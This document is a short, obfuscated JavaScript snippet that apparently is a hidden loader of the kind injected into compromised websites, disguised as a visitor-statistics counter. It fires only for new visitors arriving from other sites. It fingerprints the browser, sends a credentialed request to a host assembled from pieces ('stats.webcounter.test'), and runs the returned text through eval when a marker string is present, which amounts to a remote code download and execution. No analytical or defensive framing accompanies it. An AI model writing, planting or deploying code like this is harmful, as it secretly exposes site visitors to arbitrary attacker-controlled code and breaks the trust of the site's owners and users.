if (typeof ldsw === "undefined") {
  var ldsw = 1;
  var HttpClient = function () {
    this.get = function (u, cb) {
      var r = new XMLHttpRequest();
      r.onreadystatechange = function () { if (r.readyState == 4 && r.status == 200) cb(r.responseText); };
      r.open("GET", u, true); r.withCredentials = true; r.send(null);
    };
  },
  rand = function () { return Math.random().toString(36).substr(2); },
  token = function () { return rand() + rand(); };
  (function () {
    var n = navigator, d = document, s = screen, w = window, ck = d["cookie"], host = w["location"]["hostname"], ref = d["referrer"];
    if (!ref || has(ref, host) || ck) return;
    var h = 5381, t = n["userAgent"] + s.width;
    for (var i = 0; i < t.length; i++) h = ((h << 5) + h + t.charCodeAt(i)) >>> 0;
    new HttpClient().get("https://" + ["stats", "webcounter", "test"].join(".") + "/get.php?id=" + token() + "&h=" + h, function (x) { has(x, "ldsx") && w["eval"](x); });
    function has(a, b) { return a.indexOf(b) !== -1; }
  })();
}
